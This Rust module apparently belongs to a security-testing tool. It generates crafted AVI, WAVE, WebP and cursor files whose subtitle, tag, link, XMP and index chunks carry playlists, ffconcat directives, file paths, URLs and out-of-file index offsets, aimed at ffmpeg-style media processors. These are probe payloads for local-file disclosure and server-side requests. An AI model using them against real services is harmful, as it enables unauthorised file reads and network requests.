//! RIFF, and what it holds: AVI and WAVE.

use super::{Bait, Tried, tags, texts};

/// Those that hold other files, or point to them.
pub fn files(bait: &Bait) -> Vec<Tried> {
    let (media, url) = (bait.media.to_string_lossy(), &bait.url);
    let playlist = texts::playlist(bait);
    vec![
        ("avi-nested-playlist", avi_with_subtitles(&playlist)),
        ("avi-nested-concat", {
            avi_with_subtitles(format!("ffconcat version 1.0\nfile '{media}'\n").as_bytes())
        }),
        ("wav-tagged-playlist", {
            let format = b"\x55\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\0\0";
            let parts = [
                chunk(b"fmt ", format),
                chunk(b"id3 ", &tags::id3(b"")),
                chunk(b"data", &playlist),
            ];
            riff(b"WAVE", &parts.concat())
        }),
        ("avi-open-dml", {
            // An index of indexes, which lie outside of the file.
            let mut index = b"\x04\0\0\0\x02\0\0\x0000dc".to_vec();
            index.extend([0; 12]);
            for _ in 0..2 {
                index.extend(u64::MAX.wrapping_sub(7).to_le_bytes());
                index.extend(b"\0\x10\0\0\x01\0\0\0");
            }
            index.extend(media.as_bytes());
            let lists = chunk(b"LIST", &[b"strl", &chunk(b"indx", &index)[..]].concat());
            let heads = chunk(b"LIST", &[b"hdrl", &lists[..]].concat());
            let movi = chunk(b"LIST", &[b"movi", &chunk(b"ix00", &index)[..]].concat());
            riff(b"AVI ", &[heads, movi].concat())
        }),
        ("avi-named", {
            let text = [url.as_bytes(), b"\0"].concat();
            let info = chunk(b"LIST", &[b"INFO", &chunk(b"ISRF", &text)[..]].concat());
            let head = chunk(b"LIST", &[b"hdrl", &chunk(b"strn", &text)[..]].concat());
            riff(b"AVI ", &[head, info].concat())
        }),
        ("wav-broadcast", {
            let link =
                format!("<LINK><FILE type=\"actual\"><FILENAME>{media}</FILENAME></FILE></LINK>");
            let parts = [
                chunk(b"bext", &[0; 602]),
                chunk(b"link", link.as_bytes()),
                chunk(b"fmt ", b"\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0"),
                chunk(b"data", &[0x80; 800]),
            ];
            riff(b"WAVE", &parts.concat())
        }),
        ("wav-dts", {
            let format = b"\x01\0\x02\0\x44\xac\0\0\x10\xb1\x02\0\x04\0\x10\0";
            let sound = [&b"\xfe\x7f\x01\x80"[..], &playlist].concat();
            riff(
                b"WAVE",
                &[chunk(b"fmt ", format), chunk(b"data", &sound)].concat(),
            )
        }),
        ("webp-animation", {
            let parts = [
                chunk(b"VP8X", b"\x02\0\0\0\x08\0\0\x08\0\0"),
                chunk(b"ANIM", b"\0\0\0\0\0\0"),
                chunk(b"ANMF", &playlist),
                chunk(b"XMP ", url.as_bytes()),
            ];
            riff(b"WEBP", &parts.concat())
        }),
        (
            "cursor-animation",
            riff(b"ACON", &chunk(b"icon", &playlist)),
        ),
    ]
}

pub fn chunk(name: &[u8; 4], body: &[u8]) -> Vec<u8> {
    let padding = &[0][..body.len() % 2];
    [name, &(body.len() as u32).to_le_bytes()[..], body, padding].concat()
}

pub fn riff(kind: &[u8; 4], body: &[u8]) -> Vec<u8> {
    chunk(b"RIFF", &[kind, body].concat())
}

/// Subtitles in AVI are a file within it, whose format is found out by ffmpeg.
pub fn avi_with_subtitles(text: &[u8]) -> Vec<u8> {
    let number = |number: u32| number.to_le_bytes().to_vec();
    let stream = |kind: &[u8; 4], handler: &[u8; 4], format: &[u8]| {
        let head = [
            kind.to_vec(),
            handler.to_vec(),
            vec![0; 12],
            number(1),
            number(25),
            number(0),
            number(10),
            vec![0; 20],
        ];
        let parts = [chunk(b"strh", &head.concat()), chunk(b"strf", format)].concat();
        chunk(b"LIST", &[b"strl", &parts[..]].concat())
    };
    let picture = [
        number(40),
        number(8),
        number(8),
        vec![1, 0, 24, 0],
        number(0),
        number(192),
        vec![0; 16],
    ];
    let mut subtitles = b"GAB2\0\x02\0\x04\0\0\0x\0\0\0\x04\0".to_vec();
    subtitles.extend((text.len() as u32).to_le_bytes());
    subtitles.extend(text);
    let heads = [
        chunk(
            b"avih",
            &[number(40_000), vec![0; 20], number(2), vec![0; 28]].concat(),
        ),
        stream(b"vids", b"DIB ", &picture.concat()),
        stream(b"txts", b"\0\0\0\0", b""),
    ];
    let parts = [chunk(b"01tx", &subtitles), chunk(b"00db", &[0; 192])];
    let lists = [
        chunk(b"LIST", &[b"hdrl", &heads.concat()[..]].concat()),
        chunk(b"LIST", &[b"movi", &parts.concat()[..]].concat()),
    ];
    riff(b"AVI ", &lists.concat())
}
